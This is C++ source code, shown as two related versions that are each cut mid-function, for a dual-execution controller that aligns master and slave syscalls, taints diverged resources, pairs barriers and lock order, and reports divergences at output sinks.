        chan_.decouples->inc();
        trace(TraceEvent::Kind::Decouple, req);
        clearWait(req.tid);
        recordEvt(obs::RecKind::SyscallDecouple, req.tid, req.cnt,
                  req.site, req.sysNo, sig);
        bumpProgress();
        return vm::PortReply::Done;
    };
    os::Outcome copied;
    bool have_copy = false;
    bool mismatch = false;
    {
        std::lock_guard<CountingMutex> lock(ch.mutex);
        ch.publishPos(self(), {PosKind::Input, req.cnt, req.site, 0});
        if (!tainted) {
            for (QueueEntry &e : ch.queue) {
                if (e.consumed || e.cnt != req.cnt || e.site != req.site)
                    continue;
                if (e.argSig == sig) {
                    e.consumed = true;
                    copied = e.out;
                    have_copy = true;
                } else {
                    mismatch = true;
                }
                break;
            }
        }
        if (!have_copy && !mismatch && !tainted) {
            // No alignment yet: decide whether one can still appear.
            // Counter comparisons are hierarchical (§6): inside an
            // indirect/recursive call the counter restarts, so the
            // peer's progress is compared over the whole stack.
            bool peer_gone = chan_.sideFinished(Side::Master) ||
                             ch.threadDone[peer()];
            const Position &mpos = ch.pos[peer()];
            Progress pr = compareProgress(
                ch.cntStack[peer()], mpos.cnt,
                ch.cntStack[self()], req.cnt);
            bool passed =
                pr == Progress::Passed ||
                (pr == Progress::Same &&
                 (mpos.site != req.site ||
                  mpos.kind == PosKind::Barrier));
            if (!peer_gone && !passed &&
                !waitExpired(req.tid, opts_.stallTimeout)) {
                WaitState &w = waits_[req.tid];
                w.gate = WaitState::Gate::Input;
                w.gateCnt = req.cnt;
                w.gateSite = req.site;
                w.gateIter = 0;
                w.gateState =
                    ch.stateVersion.load(std::memory_order_relaxed);
                w.gateTaint = taint_ver;
                w.gatePeerSeq = ch.posCell[peer()].seq();
                w.gateMyStack = ch.cntStack[self()];
                recordBlock(w, req.tid, req.sysNo);
                chan_.blockedPolls->inc();
                return vm::PortReply::Blocked;
            }
        }
    }

    if (have_copy) {
        LDX_TRACE_EVT("[S] input sys=%lld cnt=%lld site=%d -> copy\n",
                      (long long)req.sysNo, (long long)req.cnt, req.site);
        bool ok = vm.kernel().replay(req.sysNo, req.args, copied,
                                     vm.memory());
        if (!ok) {
            if (key.empty())
                key = resource_key();
            if (!key.empty())
                chan_.taints.taint(key);
            return decouple();
        }
        out = copied;
        chan_.alignedSyscalls->inc();
        chan_.slaveSyscalls->inc();
        chan_.copies->inc();
        trace(TraceEvent::Kind::Copy, req);
        clearWait(req.tid);
        recordEvt(obs::RecKind::SyscallCopy, req.tid, req.cnt,
                  req.site, req.sysNo, sig);
        bumpProgress();
        return vm::PortReply::Done;
    }

    // Path or value divergence: taint and run independently.
    LDX_TRACE_EVT("[S] input sys=%lld cnt=%lld site=%d -> decouple"
                  " (mismatch=%d)\n",
                  (long long)req.sysNo, (long long)req.cnt, req.site,
                  (int)mismatch);
    if (mismatch) {
        if (key.empty())
            key = resource_key();
        if (!key.empty())
            chan_.taints.taint(key);
    }
    return decouple();
}

vm::PortReply
Controller::handleSink(const vm::SyscallRequest &req, vm::Machine &vm,
                       os::Outcome &out, const std::string &payload)
{
    invalidateGate(req.tid);
    ThreadChannel &ch = channel(req.tid);
    bool proceed = false;
    bool reported_divergence = false;
    bool vanished = false;
    {
        std::lock_guard<CountingMutex> lock(ch.mutex);
        ch.publishPos(self(), {PosKind::Sink, req.cnt, req.site, 0});
        SinkSlot &mine = ch.sink[self()];
        SinkSlot &theirs = ch.sink[peer()];

        if (!mine.valid || mine.cnt != req.cnt || mine.site != req.site) {
            mine.valid = true;
            mine.resolved = false;
            mine.cnt = req.cnt;
            mine.site = req.site;
            mine.sysNo = req.sysNo;
            mine.payload = payload;
            mine.loc = req.loc;
            ch.bumpVersion();
        }

        if (mine.resolved) {
            // Peer already compared this sink pair.
            reported_divergence = mine.divergent;
            mine.valid = false;
            mine.resolved = false;
            mine.divergent = false;
            ch.bumpVersion();
            proceed = true;
        } else if (theirs.valid && !theirs.resolved &&
                   compareProgress(ch.cntStack[peer()], theirs.cnt,
                                   ch.cntStack[self()], req.cnt) ==
                       Progress::Same) {
            // Aligned level: Algorithm 2 cases 2-4.
            Finding f;
            f.observer = opts_.side;
            f.tid = req.tid;
            f.site = req.site;
            f.cnt = req.cnt;
            f.sysNo = req.sysNo;
            f.loc = req.loc;
            bool report = true;
            if (theirs.site != req.site) {
                f.kind = CauseKind::SinkSiteMismatch;
            } else if (theirs.payload != payload) {
                f.kind = CauseKind::SinkValueDiff;
            } else {
                report = false;
                chan_.alignedSyscalls->inc();
                chan_.sinkAligned->inc();
            }
            if (report) {
                if (opts_.side == Side::Master) {
                    f.masterValue = payload;
                    f.slaveValue = theirs.payload;
                } else {
                    f.masterValue = theirs.payload;
                    f.slaveValue = payload;
                }
                chan_.addFinding(std::move(f));
                chan_.syscallDiffs->inc();
                chan_.sinkDiffs->inc();
                reported_divergence = true;
            }
            theirs.resolved = true;
            theirs.divergent = report;
            mine.valid = false;
            ch.bumpVersion();
            proceed = true;
        } else if (theirs.valid && !theirs.resolved &&
                   compareProgress(ch.cntStack[peer()], theirs.cnt,
                                   ch.cntStack[self()], req.cnt) ==
                       Progress::Passed) {
            // My sink vanished in the peer (case 1).
            Finding f;
            f.kind = CauseKind::SinkVanished;
            f.observer = opts_.side;
            f.tid = req.tid;
            f.site = req.site;
            f.cnt = req.cnt;
            f.sysNo = req.sysNo;
            f.loc = req.loc;
            (opts_.side == Side::Master ? f.masterValue : f.slaveValue) =
                payload;
            chan_.addFinding(std::move(f));
            chan_.syscallDiffs->inc();
            chan_.sinkVanished->inc();
            reported_divergence = true;
            vanished = true;
            mine.valid = false;
            ch.bumpVersion();
            proceed = true;
        } else if (!theirs.valid || theirs.resolved) {
            bool peer_gone = chan_.sideFinished(peerOf(opts_.side)) ||
                             ch.threadDone[peer()];
            const Position &ppos = ch.pos[peer()];
            Progress pr = compareProgress(
                ch.cntStack[peer()], ppos.cnt,
                ch.cntStack[self()], req.cnt);
            bool passed =
                pr == Progress::Passed ||
                (pr == Progress::Same &&
                 (ppos.site != req.site ||
                  ppos.kind == PosKind::Barrier));
            if (peer_gone || passed ||
                waitExpired(req.tid, opts_.stallTimeout)) {
                // No counterpart sink ever parked: the only
                // deterministic classification is "vanished".
                // Guessing "site mismatch" from the peer's transient
                // position would make the finding kind depend on
                // driver timing — the same divergent sink would be
                // labelled differently under the lockstep and
                // threaded drivers. A true site mismatch is only
                // reported from the rendezvous comparison above,
                // where both sinks are actually parked.
                Finding f;
                f.kind = CauseKind::SinkVanished;
                f.observer = opts_.side;
                f.tid = req.tid;
                f.site = req.site;
                f.cnt = req.cnt;
                f.sysNo = req.sysNo;
                f.loc = req.loc;
                (opts_.side == Side::Master ? f.masterValue
                                            : f.slaveValue) = payload;
                vanished = true;
                chan_.addFinding(std::move(f));
                chan_.syscallDiffs->inc();
                chan_.sinkVanished->inc();
                reported_divergence = true;
                mine.valid = false;
                ch.bumpVersion();
                proceed = true;
            }
        }

        if (!proceed) {
            // Either the peer has no unresolved sink yet (SinkWait,
            // watchdog-guarded above) or its parked sink is behind /
            // incomparable (SinkBehind, resolvable only by peer
            // movement). Record the gate for lock-free re-polls.
            WaitState &w = waits_[req.tid];
            w.gate = (!theirs.valid || theirs.resolved)
                         ? WaitState::Gate::SinkWait
                         : WaitState::Gate::SinkBehind;
            w.gateCnt = req.cnt;
            w.gateSite = req.site;
            w.gateIter = 0;
            w.gateTheirsCnt = theirs.cnt;
            w.gateState =
                ch.stateVersion.load(std::memory_order_relaxed);
            w.gateTaint = chan_.taints.version();
            w.gatePeerSeq = ch.posCell[peer()].seq();
            w.gateMyStack = ch.cntStack[self()];
            recordBlock(w, req.tid, req.sysNo);
        }
    }

    if (!proceed) {
        chan_.blockedPolls->inc();
        return vm::PortReply::Blocked;
    }

    trace(reported_divergence ? TraceEvent::Kind::SinkDiff
                              : TraceEvent::Kind::SinkAligned,
          req);
    recordEvt(vanished ? obs::RecKind::SinkVanish
                       : reported_divergence ? obs::RecKind::SinkDiff
                                             : obs::RecKind::SinkAligned,
              req.tid, req.cnt, req.site, req.sysNo,
              obs::fnv1a(payload));

    // A misaligned or value-divergent sink leaves the two worlds'
    // copies of the resource different: taint it (§7).
    if (reported_divergence) {
        try {
            std::string key = vm.kernel().resourceKey(
                req.sysNo, req.args, vm.memory());
            if (!key.empty())
                chan_.taints.taint(key);
        } catch (const vm::VmTrap &) {
        }
    }
    LDX_TRACE_EVT("[%c] sink sys=%lld cnt=%lld site=%d -> proceed\n",
                  opts_.side == Side::Master ? 'M' : 'S',
                  (long long)req.sysNo, (long long)req.cnt, req.site);

    // Perform the syscall: real output in the master, suppressed in
    // the slave (its kernel journals outputs as suppressed).
    out = vm.kernel().execute(req.sysNo, req.args, vm.memory());
    if (opts_.side == Side::Slave)
        chan_.slaveSyscalls->inc();
    clearWait(req.tid);
    bumpProgress();
    return vm::PortReply::Done;
}

vm::PortReply
Controller::handleLock(const vm::SyscallRequest &req, vm::Machine &vm)
{
    (void)vm;
    // Re-poll of a recorded lock-follow wait: the gate path skips
    // the position republish, the key construction, and both locks.
    if (fastPollBlocked(PollSite::Lock, req.tid, req.cnt, req.site, 0))
        return vm::PortReply::Blocked;

    invalidateGate(req.tid);
    ThreadChannel &ch = channel(req.tid);
    {
        std::lock_guard<CountingMutex> lock(ch.mutex);
        ch.publishPos(self(), {PosKind::Local, req.cnt, req.site, 0});
    }
    os::Sys sys = static_cast<os::Sys>(req.sysNo);
    if (!opts_.shareLockOrder || sys != os::Sys::MutexLock) {
        bumpProgress();
        return vm::PortReply::Done;
    }

    std::int64_t id = req.args.empty() ? 0 : req.args[0];
    std::uint64_t taint_ver = chan_.taints.version();
    std::string key = "mutex:" + std::to_string(id);
    if (chan_.taints.isTainted(key)) {
        bumpProgress();
        return vm::PortReply::Done;
    }

    std::lock_guard<std::mutex> lock(chan_.lockMutex);
    if (opts_.side == Side::Master) {
        // FIFO waiter semantics in the VM make approval order equal
        // acquisition order per mutex.
        chan_.lockOrder[id].push_back(req.tid);
        chan_.lockVersion.fetch_add(1, std::memory_order_release);
        bumpProgress();
        return vm::PortReply::Done;
    }

    std::size_t idx = chan_.slaveLockIdx[id];
    auto &order = chan_.lockOrder[id];
    if (order.size() > idx) {
        if (order[idx] == req.tid) {
            chan_.slaveLockIdx[id] = idx + 1;
            chan_.lockVersion.fetch_add(1, std::memory_order_release);
            lockPolls_.erase({req.tid, id});
            chan_.lockShares->inc();
            clearWait(req.tid);
            recordEvt(obs::RecKind::LockShare, req.tid, req.cnt,
                      req.site, req.sysNo,
                      static_cast<std::uint64_t>(id));
            bumpProgress();
            return vm::PortReply::Done;
        }
        // Order diverged: taint the lock, run decoupled from now on.
        chan_.taints.taint(key);
        chan_.slaveLockIdx[id] = idx + 1;
        chan_.lockVersion.fetch_add(1, std::memory_order_release);
        chan_.syscallDiffs->inc();
        chan_.lockDiverged->inc();
        clearWait(req.tid);
        recordEvt(obs::RecKind::LockDiverge, req.tid, req.cnt,
                  req.site, req.sysNo, static_cast<std::uint64_t>(id));
        bumpProgress();
        return vm::PortReply::Done;
    }
    if (chan_.sideFinished(Side::Master)) {
        chan_.taints.taint(key);
        bumpProgress();
        return vm::PortReply::Done;
    }
    std::uint64_t &polls = lockPolls_[{req.tid, id}];
    if (++polls > opts_.lockPollTimeout) {
        chan_.taints.taint(key);
        lockPolls_.erase({req.tid, id});
        chan_.syscallDiffs->inc();
        chan_.lockDiverged->inc();
        clearWait(req.tid);
        recordEvt(obs::RecKind::LockDiverge, req.tid, req.cnt,
                  req.site, req.sysNo, static_cast<std::uint64_t>(id));
        bumpProgress();
        return vm::PortReply::Done;
    }
    WaitState &w = waits_[req.tid];
    w.gate = WaitState::Gate::Lock;
    w.gateCnt = req.cnt;
    w.gateSite = req.site;
    w.gateIter = 0;
    w.gateLockId = id;
    w.gateState = ch.stateVersion.load(std::memory_order_acquire);
    w.gateTaint = taint_ver;
    w.gateLockVer = chan_.lockVersion.load(std::memory_order_relaxed);
    recordBlock(w, req.tid, req.sysNo);
    chan_.blockedPolls->inc();
    return vm::PortReply::Blocked;
}

vm::PortReply
Controller::onBarrier(int tid, std::int64_t site, std::int64_t iter,
                      std::int64_t cnt, std::int64_t reset_delta,
                      vm::Machine &vm)
{
    (void)vm;
    if (fastPollBlocked(PollSite::Barrier, tid, cnt,
                        static_cast<int>(site), iter))
        return vm::PortReply::Blocked;

    invalidateGate(tid);
    ThreadChannel &ch = channel(tid);
    std::lock_guard<CountingMutex> lock(ch.mutex);
    ch.publishPos(self(), {PosKind::Barrier, cnt,
                           static_cast<int>(site), iter});

    auto pass = [&]() -> vm::PortReply {
        // Publish the post-reset position so the peer never mistakes
        // our stale latch-level counter for "moved past".
        LDX_TRACE_EVT("[%c] barrier site=%lld iter=%lld cnt=%lld pass\n",
                      opts_.side == Side::Master ? 'M' : 'S',
                      (long long)site, (long long)iter, (long long)cnt);
        ch.publishPos(self(),
                      {PosKind::Running, cnt + reset_delta, -1, 0});
        clearWait(tid);
        bumpProgress();
        return vm::PortReply::Done;
    };

    BarrierPair &bp = ch.barrier;
    if (bp.valid && bp.site == site && bp.iter == iter &&
        !bp.consumed[self()]) {
        bp.consumed[self()] = true;
        if (bp.consumed[0] && bp.consumed[1])
            bp.valid = false;
        ch.bumpVersion();
        return pass();
    }

    const Position &ppos = ch.pos[peer()];
    bool peer_gone = chan_.sideFinished(peerOf(opts_.side)) ||
                     ch.threadDone[peer()];
    if (peer_gone)
        return pass();

    if (ppos.kind == PosKind::Barrier && ppos.site == site &&
        ppos.iter == iter) {
        // Rendezvous: close the iteration window.
        ch.purgeQueue();
        bp.valid = true;
        bp.site = site;
        bp.iter = iter;
        bp.consumed[0] = false;
        bp.consumed[1] = false;
        bp.consumed[self()] = true;
        ch.bumpVersion();
        chan_.barrierPairings->inc();
        recordEvt(obs::RecKind::BarrierPair, tid, cnt,
                  static_cast<int>(site), -1,
                  static_cast<std::uint64_t>(iter));
        if (chan_.wantsEvents()) {
            TraceEvent evt;
            evt.kind = TraceEvent::Kind::BarrierPair;
            evt.side = opts_.side;
            evt.tid = tid;
            evt.cnt = cnt;
            evt.site = static_cast<int>(site);
            chan_.recordEvent(evt);
        }
        // The peer is about to pass too; publish its post-reset
        // position now. Otherwise its stale latch-level counter (the
        // highest value in the window) would make us believe it had
        // passed the low counter levels of the next iteration.
        ch.publishPos(peer(),
                      {PosKind::Running, cnt + reset_delta, -1, 0});
        return pass();
    }
    auto skip = [&]() -> vm::PortReply {
        chan_.barrierSkips->inc();
        recordEvt(obs::RecKind::BarrierSkip, tid, cnt,
                  static_cast<int>(site), -1,
                  static_cast<std::uint64_t>(iter));
        if (chan_.wantsEvents()) {
            TraceEvent evt;
            evt.kind = TraceEvent::Kind::BarrierSkip;
            evt.side = opts_.side;
            evt.tid = tid;
            evt.cnt = cnt;
            evt.site = static_cast<int>(site);
            chan_.recordEvent(evt);
        }
        return pass();
    };
    Progress pr = compareProgress(ch.cntStack[peer()], ppos.cnt,
                                  ch.cntStack[self()], cnt);
    if (pr == Progress::Passed)
        return skip(); // peer moved past the loop
    if (ppos.kind == PosKind::Barrier && ppos.site == site &&
        ppos.iter > iter)
        return skip(); // peer is iterations ahead of us
    // Divergence at the same level: only when the peer is *also*
    // parked at a different barrier. A peer at a same-level syscall is
    // still inside this iteration window (its own rules let it move
    // past us), so we must keep waiting for its arrival here.
    if (ppos.kind == PosKind::Barrier && pr == Progress::Same &&
        ppos.site != static_cast<int>(site))
        return skip();
    if (waitExpired(tid, opts_.stallTimeout))
        return skip();
    WaitState &w = waits_[tid];
    w.gate = WaitState::Gate::Barrier;
    w.gateCnt = cnt;
    w.gateSite = static_cast<int>(site);
    w.gateIter = iter;
    w.gateState = ch.stateVersion.load(std::memory_order_relaxed);
    w.gateTaint = chan_.taints.version();
    w.gatePeerSeq = ch.posCell[peer()].seq();
    w.gateMyStack = ch.cntStack[self()];
    recordBlock(w, tid, -1);
    chan_.blockedPolls->inc();
    return vm::PortReply::Blocked;
}

void
Controller::onCounterPush(int tid, std::int64_t saved, vm::Machine &vm)
{
    (void)vm;
    ThreadChannel &ch = channel(tid);
    std::size_t depth;
    {
        std::lock_guard<CountingMutex> lock(ch.mutex);
        ch.cntStack[self()].push_back(saved);
        depth = ch.cntStack[self()].size();
        ch.publishPos(self(), {PosKind::Running, 0, -1, 0});
    }
    recordEvt(obs::RecKind::CounterPush, tid, saved, -1, -1,
              static_cast<std::uint64_t>(depth));
}

void
Controller::onCounterPop(int tid, std::int64_t restored, vm::Machine &vm)
{
    (void)vm;
    ThreadChannel &ch = channel(tid);
    std::size_t depth;
    {
        std::lock_guard<CountingMutex> lock(ch.mutex);
        if (!ch.cntStack[self()].empty())
            ch.cntStack[self()].pop_back();
        depth = ch.cntStack[self()].size();
        ch.publishPos(self(), {PosKind::Running, restored, -1, 0});
    }
    recordEvt(obs::RecKind::CounterPop, tid, restored, -1, -1,
              static_cast<std::uint64_t>(depth));
}

void
Controller::onThreadDone(int tid, vm::Machine &vm)
{
    (void)vm;
    ThreadChannel &ch = channel(tid);
    std::lock_guard<CountingMutex> lock(ch.mutex);
    ch.threadDone[self()] = true;
    ch.bumpVersion();
}

void
Controller::onFinished(vm::Machine &vm)
{
    (void)vm;
    chan_.finishSide(opts_.side);
}

} // namespace ldx::core
