#include "ldx/controller.h"

#include <cstdio>
#include <cstdlib>

#include <algorithm>

#include "os/sysno.h"
#include "support/diag.h"
#include "vm/machine.h"

namespace ldx::core {

namespace {
bool
traceEnabled()
{
    static bool on = std::getenv("LDX_TRACE") != nullptr;
    return on;
}
} // namespace

#define LDX_TRACE_EVT(...)                                              \
    do {                                                                \
        if (traceEnabled())                                             \
            std::fprintf(stderr, __VA_ARGS__);                          \
    } while (0)


Progress
compareProgress(const std::vector<std::int64_t> &peer_stack,
                std::int64_t peer_cnt,
                const std::vector<std::int64_t> &my_stack,
                std::int64_t my_cnt)
{
    std::size_t an = my_stack.size() + 1;
    std::size_t bn = peer_stack.size() + 1;
    auto a = [&](std::size_t i) {
        return i < my_stack.size() ? my_stack[i] : my_cnt;
    };
    auto b = [&](std::size_t i) {
        return i < peer_stack.size() ? peer_stack[i] : peer_cnt;
    };
    std::size_t n = std::min(an, bn);
    for (std::size_t i = 0; i < n; ++i) {
        if (b(i) != a(i))
            return b(i) > a(i) ? Progress::Passed : Progress::Behind;
    }
    if (an == bn)
        return Progress::Same;
    return Progress::Unknown;
}

Controller::Controller(SyncChannel &chan, ControllerOptions opts)
    : chan_(chan), opts_(std::move(opts))
{
    if (!opts_.isSinkChannel)
        opts_.isSinkChannel = [](const std::string &) { return true; };
}

void
Controller::bumpProgress()
{
    // The drivers bump per-instruction progress; controller completions
    // count as progress too so pure syscall sequences keep watchdogs
    // fed.
    chan_.progress[self()].fetch_add(1, std::memory_order_relaxed);
}

bool
Controller::waitExpired(int tid, std::uint64_t budget)
{
    chan_.watchdogPolls->inc();
    if (chan_.abort.load(std::memory_order_acquire))
        return true;
    WaitState &w = waits_[tid];
    std::uint64_t p =
        chan_.progress[peer()].load(std::memory_order_relaxed);
    if (p != w.peerProgressSnapshot) {
        w.peerProgressSnapshot = p;
        w.polls = 0;
        return false;
    }
    if (++w.polls > budget) {
        w.polls = 0;
        chan_.watchdogExpired->inc();
        return true;
    }
    return false;
}

void
Controller::clearWait(int tid)
{
    auto it = waits_.find(tid);
    if (it == waits_.end())
        return;
    chan_.waitPolls->observe(static_cast<double>(it->second.polls));
    waits_.erase(it);
}


void
Controller::trace(TraceEvent::Kind kind, const vm::SyscallRequest &req)
{
    if (!chan_.wantsEvents())
        return;
    TraceEvent evt;
    evt.kind = kind;
    evt.side = opts_.side;
    evt.tid = req.tid;
    evt.sysNo = req.sysNo;
    evt.cnt = req.cnt;
    evt.site = req.site;
    chan_.recordEvent(evt);
}

std::uint64_t
Controller::argSignature(const vm::SyscallRequest &req,
                         vm::Machine &vm) const
{
    const os::SysDesc &d = os::sysDesc(req.sysNo);
    std::uint64_t h = 0xcbf29ce484222325ULL;
    auto mix = [&h](std::uint64_t v) {
        for (int i = 0; i < 8; ++i) {
            h ^= (v >> (8 * i)) & 0xff;
            h *= 0x100000001b3ULL;
        }
    };
    auto mix_bytes = [&h](const std::string &s) {
        for (char c : s) {
            h ^= static_cast<unsigned char>(c);
            h *= 0x100000001b3ULL;
        }
    };
    mix(static_cast<std::uint64_t>(req.sysNo));
    for (std::size_t i = 0; i < req.args.size(); ++i) {
        int idx = static_cast<int>(i);
        if (idx == d.outBufArg)
            continue; // buffer addresses may differ benignly
        try {
            if (idx == d.pathArg || idx == d.pathArg2) {
                mix_bytes(vm.memory().readCString(
                    static_cast<std::uint64_t>(req.args[i])));
                continue;
            }
            if (idx == d.inBufArg) {
                std::int64_t len = d.lenArg >= 0 &&
                        d.lenArg < static_cast<int>(req.args.size())
                    ? std::max<std::int64_t>(
                          0, req.args[static_cast<std::size_t>(d.lenArg)])
                    : 0;
                mix_bytes(vm.memory().readBytes(
                    static_cast<std::uint64_t>(req.args[i]),
                    static_cast<std::uint64_t>(len)));
                continue;
            }
        } catch (const vm::VmTrap &) {
            mix(0xfa17);
            continue;
        }
        mix(static_cast<std::uint64_t>(req.args[i]));
    }
    return h;
}

bool
Controller::isSink(const vm::SyscallRequest &req, vm::Machine &vm,
                   std::string *payload_out,
                   std::string *channel_out) const
{
    if (os::sysDesc(req.sysNo).klass != os::SysClass::Output)
        return false;
    std::string payload;
    try {
        payload = vm.kernel().sinkPayload(req.sysNo, req.args,
                                          vm.memory());
    } catch (const vm::VmTrap &) {
        payload = "fault|";
    }
    std::string channel = payload.substr(0, payload.find('|'));
    if (payload_out)
        *payload_out = payload;
    if (channel_out)
        *channel_out = channel;
    return opts_.isSinkChannel(channel);
}

vm::PortReply
Controller::onSyscall(const vm::SyscallRequest &req, vm::Machine &vm,
                      os::Outcome &out)
{
    const os::SysDesc &desc = os::sysDesc(req.sysNo);
    switch (desc.klass) {
      case os::SysClass::Local: {
        ThreadChannel &ch = chan_.thread(req.tid);
        std::lock_guard<std::mutex> lock(ch.mutex);
        ch.pos[self()] = {PosKind::Local, req.cnt, req.site, 0};
        bumpProgress();
        return vm::PortReply::Done;
      }
      case os::SysClass::Sync:
        return handleLock(req, vm);
      case os::SysClass::Output: {
        std::string payload;
        if (isSink(req, vm, &payload, nullptr))
            return handleSink(req, vm, out, payload);
        [[fallthrough]];
      }
      case os::SysClass::Input:
        if (opts_.side == Side::Master)
            return handleMasterShared(req, vm, out);
        return handleSlaveShared(req, vm, out);
    }
    panic("unhandled syscall class");
}

vm::PortReply
Controller::handleMasterShared(const vm::SyscallRequest &req,
                               vm::Machine &vm, os::Outcome &out)
{
    std::string key;
    if (chan_.taints.size() != 0) {
        try {
            key = vm.kernel().resourceKey(req.sysNo, req.args,
                                          vm.memory());
        } catch (const vm::VmTrap &) {
            key.clear();
        }
    }
    bool tainted = !key.empty() && chan_.taints.isTainted(key);

    out = vm.kernel().execute(req.sysNo, req.args, vm.memory());

    ThreadChannel &ch = chan_.thread(req.tid);
    {
        std::lock_guard<std::mutex> lock(ch.mutex);
        ch.pos[self()] = {PosKind::Input, req.cnt, req.site, 0};
        if (!tainted && !chan_.sideFinished(Side::Slave)) {
            if (ch.queue.size() >= SyncChannel::kQueueCap)
                ch.queue.pop_front();
            QueueEntry entry;
            entry.cnt = req.cnt;
            entry.site = req.site;
            entry.sysNo = req.sysNo;
            entry.argSig = argSignature(req, vm);
            entry.out = out;
            ch.queue.push_back(std::move(entry));
        }
    }
    LDX_TRACE_EVT("[%c] input sys=%lld cnt=%lld site=%d -> exec+enqueue\n",
                  opts_.side == Side::Master ? 'M' : 'S',
                  (long long)req.sysNo, (long long)req.cnt, req.site);
    chan_.executes->inc();
    trace(TraceEvent::Kind::Execute, req);
    bumpProgress();
    return vm::PortReply::Done;
}

vm::PortReply
Controller::handleSlaveShared(const vm::SyscallRequest &req,
                              vm::Machine &vm, os::Outcome &out)
{
    auto resource_key = [&]() -> std::string {
        try {
            return vm.kernel().resourceKey(req.sysNo, req.args,
                                           vm.memory());
        } catch (const vm::VmTrap &) {
            return "";
        }
    };
    std::string key;
    if (chan_.taints.size() != 0)
        key = resource_key();
    bool tainted = !key.empty() && chan_.taints.isTainted(key);

    ThreadChannel &ch = chan_.thread(req.tid);
    // Any misaligned operation taints its resource (§7), so later
    // syscalls on it never couple diverged state.
    auto decouple = [&]() -> vm::PortReply {
        if (key.empty())
            key = resource_key();
        if (!key.empty())
            chan_.taints.taint(key);
        out = vm.kernel().execute(req.sysNo, req.args, vm.memory());
        chan_.syscallDiffs->inc();
        chan_.slaveSyscalls->inc();
        chan_.decouples->inc();
        trace(TraceEvent::Kind::Decouple, req);
        clearWait(req.tid);
        bumpProgress();
        return vm::PortReply::Done;
    };

    std::uint64_t sig = argSignature(req, vm);
    os::Outcome copied;
    bool have_copy = false;
    bool mismatch = false;
    {
        std::lock_guard<std::mutex> lock(ch.mutex);
        ch.pos[self()] = {PosKind::Input, req.cnt, req.site, 0};
        if (!tainted) {
            for (QueueEntry &e : ch.queue) {
                if (e.consumed || e.cnt != req.cnt || e.site != req.site)
                    continue;
                if (e.argSig == sig) {
                    e.consumed = true;
                    copied = e.out;
                    have_copy = true;
                } else {
                    mismatch = true;
                }
                break;
            }
        }
        if (!have_copy && !mismatch && !tainted) {
            // No alignment yet: decide whether one can still appear.
            // Counter comparisons are hierarchical (§6): inside an
            // indirect/recursive call the counter restarts, so the
            // peer's progress is compared over the whole stack.
            bool peer_gone = chan_.sideFinished(Side::Master) ||
                             ch.threadDone[peer()];
            const Position &mpos = ch.pos[peer()];
            Progress pr = compareProgress(
                ch.cntStack[peer()], mpos.cnt,
                ch.cntStack[self()], req.cnt);
            bool passed =
                pr == Progress::Passed ||
                (pr == Progress::Same &&
                 (mpos.site != req.site ||
                  mpos.kind == PosKind::Barrier));
            if (!peer_gone && !passed &&
                !waitExpired(req.tid, opts_.stallTimeout)) {
                chan_.blockedPolls->inc();
                return vm::PortReply::Blocked;
            }
        }
    }

    if (have_copy) {
        LDX_TRACE_EVT("[S] input sys=%lld cnt=%lld site=%d -> copy\n",
                      (long long)req.sysNo, (long long)req.cnt, req.site);
        bool ok = vm.kernel().replay(req.sysNo, req.args, copied,
                                     vm.memory());
        if (!ok) {
            if (key.empty())
                key = resource_key();
            if (!key.empty())
                chan_.taints.taint(key);
            return decouple();
        }
        out = copied;
        chan_.alignedSyscalls->inc();
        chan_.slaveSyscalls->inc();
        chan_.copies->inc();
        trace(TraceEvent::Kind::Copy, req);
        clearWait(req.tid);
        bumpProgress();
        return vm::PortReply::Done;
    }

    // Path or value divergence: taint and run independently.
    LDX_TRACE_EVT("[S] input sys=%lld cnt=%lld site=%d -> decouple"
                  " (mismatch=%d)\n",
                  (long long)req.sysNo, (long long)req.cnt, req.site,
                  (int)mismatch);
    if (mismatch) {
        if (key.empty())
            key = resource_key();
        if (!key.empty())
            chan_.taints.taint(key);
    }
    return decouple();
}

vm::PortReply
Controller::handleSink(const vm::SyscallRequest &req, vm::Machine &vm,
                       os::Outcome &out, const std::string &payload)
{
    ThreadChannel &ch = chan_.thread(req.tid);
    bool proceed = false;
    bool reported_divergence = false;
    {
        std::lock_guard<std::mutex> lock(ch.mutex);
        ch.pos[self()] = {PosKind::Sink, req.cnt, req.site, 0};
        SinkSlot &mine = ch.sink[self()];
        SinkSlot &theirs = ch.sink[peer()];

        if (!mine.valid || mine.cnt != req.cnt || mine.site != req.site) {
            mine.valid = true;
            mine.resolved = false;
            mine.cnt = req.cnt;
            mine.site = req.site;
            mine.sysNo = req.sysNo;
            mine.payload = payload;
            mine.loc = req.loc;
        }

        if (mine.resolved) {
            // Peer already compared this sink pair.
            reported_divergence = mine.divergent;
            mine.valid = false;
            mine.resolved = false;
            mine.divergent = false;
            proceed = true;
        } else if (theirs.valid && !theirs.resolved &&
                   compareProgress(ch.cntStack[peer()], theirs.cnt,
                                   ch.cntStack[self()], req.cnt) ==
                       Progress::Same) {
            // Aligned level: Algorithm 2 cases 2-4.
            Finding f;
            f.observer = opts_.side;
            f.tid = req.tid;
            f.site = req.site;
            f.cnt = req.cnt;
            f.sysNo = req.sysNo;
            f.loc = req.loc;
            bool report = true;
            if (theirs.site != req.site) {
                f.kind = CauseKind::SinkSiteMismatch;
            } else if (theirs.payload != payload) {
                f.kind = CauseKind::SinkValueDiff;
            } else {
                report = false;
                chan_.alignedSyscalls->inc();
                chan_.sinkAligned->inc();
            }
            if (report) {
                if (opts_.side == Side::Master) {
                    f.masterValue = payload;
                    f.slaveValue = theirs.payload;
                } else {
                    f.masterValue = theirs.payload;
                    f.slaveValue = payload;
                }
                chan_.addFinding(std::move(f));
                chan_.syscallDiffs->inc();
                chan_.sinkDiffs->inc();
                reported_divergence = true;
            }
            theirs.resolved = true;
            theirs.divergent = report;
            mine.valid = false;
            proceed = true;
        } else if (theirs.valid && !theirs.resolved &&
                   compareProgress(ch.cntStack[peer()], theirs.cnt,
                                   ch.cntStack[self()], req.cnt) ==
                       Progress::Passed) {
            // My sink vanished in the peer (case 1).
            Finding f;
            f.kind = CauseKind::SinkVanished;
            f.observer = opts_.side;
            f.tid = req.tid;
            f.site = req.site;
            f.cnt = req.cnt;
            f.sysNo = req.sysNo;
            f.loc = req.loc;
            (opts_.side == Side::Master ? f.masterValue : f.slaveValue) =
                payload;
            chan_.addFinding(std::move(f));
            chan_.syscallDiffs->inc();
            chan_.sinkVanished->inc();
            reported_divergence = true;
            mine.valid = false;
            proceed = true;
        } else if (!theirs.valid || theirs.resolved) {
            bool peer_gone = chan_.sideFinished(peerOf(opts_.side)) ||
                             ch.threadDone[peer()];
            const Position &ppos = ch.pos[peer()];
            Progress pr = compareProgress(
